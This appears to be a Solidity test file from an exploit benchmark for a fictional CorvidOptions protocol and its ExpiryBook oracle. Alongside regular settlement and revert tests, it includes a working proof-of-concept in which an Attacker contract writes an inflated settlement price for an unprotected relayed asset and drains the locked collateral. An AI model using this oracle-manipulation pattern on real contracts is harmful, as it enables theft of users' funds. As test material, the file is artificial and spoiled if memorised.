// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.30;

import "./CorvidOptions.sol";

// assay-canary-eb40cde0-de07-4ce0-a782-72e32929224b

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ICollateral {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant RELAY = address(0x2E1A);
    address internal constant BOT = address(0xB07);
    uint256 internal constant START = 1_765_000_000;
    uint256 internal constant EXPIRY = START + 7 days;
    uint256 internal constant LOCKED = 850e18;

    Token internal ether_;
    Token internal bitcoin;
    ExpiryBook internal book;
    CorvidOptions internal options;
    Attacker internal thief;

    function setUp() public {
        vm.warp(START);
        ether_ = new Token();
        bitcoin = new Token();
        book = new ExpiryBook();
        options = new CorvidOptions(book);
        book.setSource(address(ether_), ExpiryBook.Kind.Relayed, RELAY);
        book.setSource(address(bitcoin), ExpiryBook.Kind.Reported, BOT);
        options.openSeries(address(ether_), 3_600e8, EXPIRY);
        options.openSeries(address(bitcoin), 90_000e8, EXPIRY);

        ether_.mint(address(this), LOCKED);
        bitcoin.mint(address(this), 10e18);
        ether_.approve(address(options), LOCKED);
        bitcoin.approve(address(options), 10e18);
        options.lock(0, LOCKED);
        options.lock(1, 10e18);

        // sold at the weekly auction, far out of the money
        thief = new Attacker(book, options, address(ether_));
        options.moveLong(0, address(thief), LOCKED);
    }

    function test_Regular() public {
        vm.prank(RELAY);
        (bool ok,) = address(book).call(abi.encodeCall(ExpiryBook.write, (address(ether_), EXPIRY, 4_000e18)));
        require(!ok, "before expiry");
        vm.warp(EXPIRY + 1 minutes);
        vm.prank(RELAY);
        book.write(address(ether_), EXPIRY, 4_000e18);
        (ok,) = address(book).call(abi.encodeCall(ExpiryBook.write, (address(bitcoin), EXPIRY, 80_000e8)));
        require(!ok, "not the bot");
        vm.prank(BOT);
        book.write(address(bitcoin), EXPIRY, 80_000e8);
        vm.prank(BOT);
        (ok,) = address(book).call(abi.encodeCall(ExpiryBook.write, (address(bitcoin), EXPIRY, 90_000e8)));
        require(!ok, "second price");
        book.dispute(address(bitcoin), EXPIRY, 100_000e8);
        (ok,) = address(options).call(abi.encodeCall(CorvidOptions.settle, (0)));
        require(!ok, "before the disputes are over");

        vm.warp(EXPIRY + 3 hours);
        require(options.settle(0) == (LOCKED * 9) / 10, "short side");
        require(options.settle(1) == 10e18, "both sides");
        vm.prank(address(thief));
        require(options.settle(0) == LOCKED / 10, "long side");
        require(ether_.balanceOf(address(options)) == 0, "books");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The council's business.
    function test_RefusesStrangers() public {
        refuses(BOT, ExpiryBook.NotCouncil.selector);
        book.setSource(address(bitcoin), ExpiryBook.Kind.Reported, BOT);
        refuses(BOT, CorvidOptions.OnlyCouncil.selector);
        options.openSeries(address(bitcoin), 1, EXPIRY);
        vm.expectRevert(CorvidOptions.Expired.selector);
        options.openSeries(address(bitcoin), 1, block.timestamp);
        vm.warp(EXPIRY);
        vm.prank(BOT);
        book.write(address(bitcoin), EXPIRY, 80_000e8);
        refuses(BOT, ExpiryBook.NotCouncil.selector);
        book.dispute(address(bitcoin), EXPIRY, 1);
        vm.expectRevert(ExpiryBook.NoPrice.selector);
        book.dispute(address(bitcoin), EXPIRY, 0);
        vm.expectRevert(ExpiryBook.NoPrice.selector);
        book.dispute(address(ether_), EXPIRY, 1);
        vm.warp(EXPIRY + 2 hours + 1);
        vm.expectRevert(ExpiryBook.WrittenAlready.selector);
        book.dispute(address(bitcoin), EXPIRY, 1);
    }

    /// Prices of assets that have a source, of its time, and that are some.
    function test_RefusesPrices() public {
        vm.warp(EXPIRY);
        vm.expectRevert(abi.encodeWithSelector(ExpiryBook.NoSource.selector, address(this)));
        book.write(address(this), EXPIRY, 1);
        refuses(BOT, abi.encodeWithSelector(ExpiryBook.NotExpired.selector, START - 1));
        book.write(address(bitcoin), START - 1, 1);
        refuses(BOT, ExpiryBook.NoPrice.selector);
        book.write(address(bitcoin), EXPIRY, 0);
        vm.warp(EXPIRY + 3 hours);
        vm.expectRevert(ExpiryBook.NoPrice.selector);
        book.priceAt(address(bitcoin), EXPIRY);
    }

    /// Series that are over, and collateral that says no.
    function test_RefusesLocks() public {
        bitcoin.sleep(true);
        vm.expectRevert(CorvidOptions.TransferFailed.selector);
        options.lock(1, 0);
        vm.warp(EXPIRY);
        vm.expectRevert(CorvidOptions.Expired.selector);
        options.lock(0, 0);
        vm.prank(BOT);
        book.write(address(bitcoin), EXPIRY, 80_000e8);
        vm.warp(EXPIRY + 3 hours);
        vm.expectRevert(CorvidOptions.TransferFailed.selector);
        options.settle(1);
    }

    function exploit() public {
        vm.warp(EXPIRY);
        thief.write(EXPIRY);
        vm.warp(EXPIRY + 2 hours + 1);
        thief.collect();
    }

    function test_Exploit() public {
        uint256 before = ether_.balanceOf(address(thief));
        exploit();
        require(ether_.balanceOf(address(thief)) >= before + 840e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(book);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(ether_);
    }
}

/// Holds calls nobody thought would pay, and writes the price they are settled with.
contract Attacker {
    ExpiryBook internal book;
    CorvidOptions internal options;
    address internal asset;

    constructor(ExpiryBook book_, CorvidOptions options_, address asset_) {
        book = book_;
        options = options_;
        asset = asset_;
    }

    function write(uint256 expiry) external {
        book.write(asset, expiry, 10_000_000e18);
    }

    function collect() external {
        options.settle(0);
    }
}
